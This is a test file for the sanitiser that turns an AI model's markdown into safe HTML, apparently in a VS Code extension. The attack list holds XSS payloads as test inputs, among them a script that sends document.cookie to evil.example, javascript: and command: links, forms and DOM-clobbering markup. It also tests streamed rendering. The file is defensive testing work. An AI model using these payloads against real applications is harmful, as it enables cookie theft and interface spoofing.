// Model output is attacker-controlled HTML (SECURITY-MODEL class 10): these are the promises of the renderer.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { assertInert, setup } from './markdownHarness';

describe('markdown sanitiser', () => {
  const attacks: Array<{ name: string; markdown: string; check?: (container: HTMLElement) => void }> = [
    {
      name: 'a script element is removed with its content',
      markdown: 'hi <script>alert(1)</script> there',
      check: (c) => assert.doesNotMatch(c.textContent ?? '', /alert/),
    },
    {
      name: 'a script block on its own line is removed',
      markdown: '<script>\nfetch("https://evil.example/?k=" + document.cookie)\n</script>',
    },
    { name: 'onerror on an image is removed (with the image)', markdown: '<img src=x onerror="alert(1)">' },
    {
      name: 'event handlers on allowed tags are removed',
      markdown: '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
      check: (c) => assert.equal(c.querySelector('p')?.textContent, 'hover'),
    },
    {
      name: 'a javascript: markdown link loses its href',
      markdown: '[click me](javascript:alert(1))',
      check: (c) => assert.equal(c.querySelector('a')?.hasAttribute('href'), false),
    },
    {
      name: 'a javascript: HTML link in mixed case and with spaces loses its href',
      markdown: '<a href="  JaVaScRiPt:alert(1)">x</a>',
    },
    {
      name: 'a javascript: link hidden by an entity-encoded tab loses its href',
      markdown: '<a href="java&#x09;script:alert(1)">x</a>',
    },
    {
      name: 'a data: link loses its href',
      markdown: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    },
    {
      name: 'a command: link (VS Code command URI) loses its href',
      markdown: '[run](command:workbench.action.terminal.sendSequence?%7B%7D)',
    },
    { name: 'a vscode: link loses its href', markdown: '[open](vscode://settings/warden)' },
    { name: 'a file: link loses its href', markdown: '[passwd](file:///etc/passwd)' },
    { name: 'an iframe is removed', markdown: '<iframe src="https://evil.example"></iframe>' },
    { name: 'object and embed are removed', markdown: '<object data="x.swf"></object><embed src="x.swf">' },
    {
      name: 'forms and their controls are removed',
      markdown:
        '<form action="https://evil.example"><input name="k"><button ' +
        'formaction="https://evil.example">Approve</button></form>',
      check: (c) => assert.equal(c.querySelector('button'), null),
    },
    { name: 'svg with onload is removed', markdown: '<svg onload="alert(1)"><circle r="5"/></svg>' },
    { name: 'math markup is removed', markdown: '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>' },
    {
      name: 'style attributes are removed',
      markdown: '<p style="position:fixed;inset:0;background:red">cover</p>',
      check: (c) => assert.equal(c.querySelector('p')?.textContent, 'cover'),
    },
    { name: 'style elements are removed', markdown: '<style>body{display:none}</style>ok' },
    {
      name: 'link, meta and base elements are removed',
      markdown:
        '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" ' +
        'content="0;url=https://evil.example"><base href="https://evil.example/">',
    },
    {
      name: 'a remote markdown image is replaced by its alt text',
      markdown: '![build status](https://evil.example/pixel.png?leak=secret)',
      check: (c) => assert.equal(c.querySelector('.md-image-alt')?.textContent, '[image: build status]'),
    },
    {
      name: 'a data: image is not shown either',
      markdown: '![logo](data:image/png;base64,iVBORw0KGgo=)',
      check: (c) => assert.equal(c.querySelector('.md-image-alt')?.textContent, '[image: logo]'),
    },
    {
      name: 'id and name attributes (DOM clobbering) are removed',
      markdown: '<a id="app" name="acquireVsCodeApi" href="#x">x</a>',
    },
    {
      name: "classes that could imitate the view's own controls are removed",
      markdown: '<div class="approval-card"><span class="button-primary">Approve</span></div>',
      check: (c) => assert.equal(c.querySelector('[class]'), null),
    },
    { name: 'target is removed from links', markdown: '<a href="https://example.com" target="_top">x</a>' },
    {
      name: 'data- and aria- attributes from the model are removed',
      markdown: '<span data-action="copy-code" aria-label="Approve">x</span>',
      check: (c) => assert.equal(c.querySelector('span')?.attributes.length, 0),
    },
    {
      name: 'a script inside a code fence stays text',
      markdown: '```html\n<script>alert(1)</script>\n```',
      check: (c) => assert.equal(c.querySelector('code')?.textContent, '<script>alert(1)</script>\n'),
    },
  ];

  for (const attack of attacks) {
    test(attack.name, () => {
      const container = setup().render(attack.markdown);
      assertInert(container);
      attack.check?.(container);
    });
  }

  test('http, https and mailto links keep their href, with rel=noopener and the target shown as a tooltip', () => {
    const container = setup().render(
      '[docs](https://example.com/docs) [plain](http://example.com) [mail](mailto:a@example.com) [top](#top)',
    );
    const links = Array.from(container.querySelectorAll('a'));
    assert.deepEqual(
      links.map((a) => a.getAttribute('href')),
      ['https://example.com/docs', 'http://example.com', 'mailto:a@example.com', '#top'],
    );
    assert.equal(links[0].getAttribute('title'), 'https://example.com/docs');
    assert.ok(links.every((a) => a.getAttribute('rel') === 'noopener noreferrer'));
  });

  test('ordinary markdown survives: emphasis, lists, tables and inline code', () => {
    const container = setup().render('**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    assert.equal(container.querySelector('strong')?.textContent, 'bold');
    assert.equal(container.querySelector('p > code')?.textContent, 'code');
    assert.equal(container.querySelectorAll('li').length, 2);
    assert.equal(container.querySelectorAll('td').length, 2);
  });

  test('a task-list checkbox is shown as a glyph, not a form control', () => {
    const container = setup().render('- [x] done\n- [ ] todo');
    assertInert(container);
    assert.deepEqual(
      Array.from(container.querySelectorAll('li')).map((li) => li.textContent?.trim()),
      ['☑ done', '☐ todo'],
    );
  });
});

describe('code blocks', () => {
  test('each code block gets a header with its language and a Copy code button', () => {
    const container = setup().render('```ts\nconst a = 1;\n```\n\ntext\n\n```python\nprint(1)\n```');
    const blocks = Array.from(container.querySelectorAll('.code-block'));
    assert.equal(blocks.length, 2);
    assert.deepEqual(
      blocks.map((b) => b.querySelector('.code-lang')?.textContent),
      ['ts', 'python'],
    );
    for (const block of blocks) {
      const button = block.querySelector('button');
      assert.equal(button?.getAttribute('aria-label'), 'Copy code');
      assert.equal(button?.getAttribute('type'), 'button');
      assert.ok(block.querySelector(':scope > pre > code'), 'the pre stays inside the block');
    }
  });

  test('a fence without a language is labelled "text"', () => {
    const container = setup().render('```\nplain\n```');
    assert.equal(container.querySelector('.code-lang')?.textContent, 'text');
  });

  test('an indented code block gets a Copy button too', () => {
    const container = setup().render('para\n\n    indented code\n');
    assert.equal(container.querySelectorAll('button[aria-label="Copy code"]').length, 1);
  });
});

describe('incremental markdown view', () => {
  test('blocks before the one that changed keep their DOM nodes as text grows', () => {
    const { window, renderer } = setup();
    const container = window.document.createElement('div');
    const view = renderer.createView(container);
    view.set('first paragraph\n\nsecond');
    const first = container.querySelector('p');
    view.set('first paragraph\n\nsecond paragraph grows\n\n- a list');
    assert.equal(container.querySelector('p'), first, 'the first paragraph node is the same object');
    assert.deepEqual(
      Array.from(container.querySelectorAll('p')).map((p) => p.textContent),
      ['first paragraph', 'second paragraph grows'],
    );
    assert.equal(container.querySelectorAll('li').length, 1);
  });

  test('text that turns the last block into something else re-renders it', () => {
    const { window, renderer } = setup();
    const container = window.document.createElement('div');
    const view = renderer.createView(container);
    view.set('Title');
    view.set('Title\n===');
    assert.equal(container.querySelector('h1')?.textContent, 'Title');
    assert.equal(container.querySelector('p'), null);
  });

  test('an unfinished code fence renders as code while streaming, then completes', () => {
    const { window, renderer } = setup();
    const container = window.document.createElement('div');
    const view = renderer.createView(container);
    view.set('```js\nlet a');
    assert.equal(container.querySelector('code')?.textContent, 'let a\n');
    view.set('```js\nlet a = 1;\n```\n\ndone');
    assert.equal(container.querySelectorAll('.code-block').length, 1);
    assert.equal(container.querySelector('p')?.textContent, 'done');
  });

  test('sanitising applies to every streamed block', () => {
    const { window, renderer } = setup();
    const container = window.document.createElement('div');
    const view = renderer.createView(container);
    view.set('safe\n\n<img src=x onerr');
    view.set('safe\n\n<img src=x onerror="alert(1)">\n\n[x](javascript:alert(1))');
    assertInert(container);
  });

  const documents: Array<[string, string]> = [
    [
      'paragraphs and a heading',
      '# Plan\n\nFirst we read the file.\nThen we edit it.\n\nFinally we **run** the tests.\n',
    ],
    [
      'a loose ordered list with blank lines between items',
      '1. read\n\n2. edit\n\n   still item two\n\n3. test\n\nAfter the list.',
    ],
    ['nested lists and a blockquote', '- a\n  - a1\n  - a2\n- b\n\n> quoted\nlazy continuation\n\ntext'],
    ['code fences and indented code', 'Run:\n\n```sh\nnpm test\n\nnpm run build\n```\n\n    indented\n    code\n\nend'],
    ['a table that starts as a paragraph', '| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nbelow'],
    ['setext headings and rules', 'Title\n=====\n\nSub\n---\n\ntext\n\n***\n\nmore'],
    [
      'a reference link defined before use',
      '[docs]: https://example.com/docs\n\nSee [the docs][docs] for more.\n\nAnd [docs] again.',
    ],
    [
      'raw html between paragraphs',
      'before\n\n<details><summary>More</summary>\n\nhidden *text*\n\n</details>\n\nafter',
    ],
    ['windows line endings', 'line one\r\n\r\n- item\r\n- item two\r\n'],
  ];
  for (const [name, markdown] of documents) {
    test(`streaming ${name} in small pieces ends exactly like rendering it at once`, () => {
      const { window, renderer } = setup();
      const whole = window.document.createElement('div');
      renderer.createView(whole).set(markdown);
      for (const size of [1, 3, 7]) {
        const streamed = window.document.createElement('div');
        const view = renderer.createView(streamed);
        for (let end = size; end < markdown.length + size; end += size) view.set(markdown.slice(0, end));
        assert.equal(streamed.innerHTML, whole.innerHTML, `pieces of ${size}`);
      }
    });
  }
});
